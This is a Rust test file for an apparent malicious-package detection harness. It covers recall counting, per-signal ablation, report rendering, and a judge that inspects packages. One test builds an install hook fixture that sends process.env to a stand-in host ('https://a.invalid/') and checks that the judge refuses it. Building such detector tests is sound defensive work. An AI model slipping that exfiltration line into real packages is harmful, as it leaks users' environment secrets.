use weir_model::{Action, Confidence, Finding, Group, Severity};

use super::tally::{Share, ablation, clusters, recall};
use super::*;
use crate::corpus::every;

/// A corpus of two stories, one of them a twin, on disk as the real one is.
fn corpus() -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    for (path, style) in [
        ("attacks/b01/sends.toml", "plain"),
        ("twins/b01/serves.toml", "plain"),
    ] {
        let path = folder.path().join("corpus").join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        let text = format!(
            "story = \"A story.\"\nbehaviours = [\"B1\"]\nsurface = \"import\"\nstyle = \"{style}\"\n\
             [[files]]\npath = \"index.js\"\ntext = \"module.exports = 1;\"\n"
        );
        std::fs::write(path, text).unwrap();
    }
    let generated = "[[variants]]\nstyle = \"folded\"\n\
        [[variants.files]]\npath = \"index.js\"\ntext = \"module['exports'] = 1;\"\n";
    let beside = folder
        .path()
        .join("corpus/attacks/b01/sends.generated.toml");
    std::fs::write(beside, generated).unwrap();
    folder
}

fn seen(findings: &[(&str, Severity)]) -> Seen {
    let findings = findings.iter().map(|(signal, severity)| Finding {
        signal: (*signal).to_owned(),
        group: Group::Code,
        severity: *severity,
        confidence: Confidence::High,
        decisive: false,
        message: "it <does> this".to_owned(),
        evidence: Vec::new(),
    });
    Seen {
        findings: findings.collect(),
        action: Action::Notice,
        incomplete: 0,
    }
}

fn scored<'s>(samples: &'s [Sample], answers: &[Seen]) -> Vec<Scored<'s>> {
    let variants = samples.iter().flat_map(|sample| {
        sample
            .variants
            .iter()
            .map(move |(style, _)| (sample, *style))
    });
    let scored = variants.zip(answers).map(|((sample, style), seen)| Scored {
        sample,
        style,
        alone: seen.clone(),
        update: seen.clone(),
    });
    scored.collect()
}

#[test]
fn a_story_counts_once_and_every_style_is_asked_for() {
    let folder = corpus();
    let samples = every(folder.path()).unwrap();
    let high = seen(&[("one", Severity::High)]);
    let scored = scored(&samples, &[high.clone(), seen(&[]), high]);
    let stories = clusters(&scored, has_to_be_found);
    assert_eq!(stories.len(), 1);
    let (written, every) = recall(stories.values(), |one| one.alone.is_high());
    assert_eq!((written.found, written.all), (1, 1));
    assert_eq!((every.found, every.all), (0, 1));
    assert_eq!(Share { found: 1, all: 3 }.to_string(), "1/3 (33.3 %)");
}

#[test]
fn ablation_tells_what_only_one_signal_finds() {
    let folder = corpus();
    let samples = every(folder.path()).unwrap();
    let both = seen(&[("one", Severity::High), ("two", Severity::Critical)]);
    let first = seen(&[("one", Severity::High), ("low", Severity::Low)]);
    let scored = scored(&samples, &[both, first.clone(), first]);
    let worths = ablation(&scored);
    let numbers = |signal: &str| {
        let worth = &worths[signal];
        (worth.reports, worth.alone, worth.stories_alone, worth.twins)
    };
    assert_eq!(numbers("one"), (2, 1, 0, 1));
    assert_eq!(numbers("two"), (1, 0, 0, 0));
    assert_eq!(numbers("low"), (0, 0, 0, 0));
}

#[test]
fn parts_that_were_not_measured_stay_and_misses_are_named() {
    let folder = corpus();
    let samples = every(folder.path()).unwrap();
    let high = seen(&[("one", Severity::High)]);
    let scored = scored(&samples, &[high.clone(), seen(&[]), high]);
    let first = board::render(&scored, None, None, "");
    assert!(first.contains("Not measured yet."), "{first}");
    assert!(first.contains("- `attacks/b01/sends`: folded."), "{first}");
    assert!(
        first.contains("- **twins/b01/serves (plain)**: notice"),
        "{first}"
    );
    assert!(first.contains("it \\<does\\> this"), "{first}");
    let measured = first.replacen("Not measured yet.", "7 packages.", 1);
    let again = board::render(&scored, None, None, &measured);
    assert_eq!(again, measured);
}

#[test]
fn a_judgement_reads_the_package_and_not_its_name() {
    let folder = corpus();
    let samples = every(folder.path()).unwrap();
    let judge = Judge::new().unwrap();
    let mut sample = samples.into_iter().next().unwrap();
    let quiet = &sample.variants[0].1.clone();
    let package = crate::corpus::package(&sample, quiet).unwrap();
    let seen = judge.release(&package, None).unwrap();
    assert!(seen.findings.is_empty(), "{:?}", seen.findings);
    assert_eq!((seen.action, seen.incomplete), (Action::Allow, 0));
    // The same story with a hook that sends the environment away.
    sample.story.surface =
        toml::from_str::<toml::Table>("surface = \"install\"").unwrap()["surface"]
            .clone()
            .try_into()
            .unwrap();
    let mut files = quiet.clone();
    files[0].text = Some(
        "require('https').request('https://a.invalid/').end(JSON.stringify(process.env));"
            .to_owned(),
    );
    let package = crate::corpus::package(&sample, &files).unwrap();
    let before = crate::corpus::clean_before(&sample, &files).unwrap();
    for before in [None, Some(&before)] {
        let seen = judge.release(&package, before).unwrap();
        assert!(seen.is_high() && seen.is_refused(), "{seen:?}");
    }
}

#[test]
fn a_tarball_that_is_none_is_an_error() {
    let judge = Judge::new().unwrap();
    assert!(judge.tarball(&b"<html>".as_slice().into()).is_err());
    assert_eq!(Share::of([true, false]), Share { found: 1, all: 2 });
}
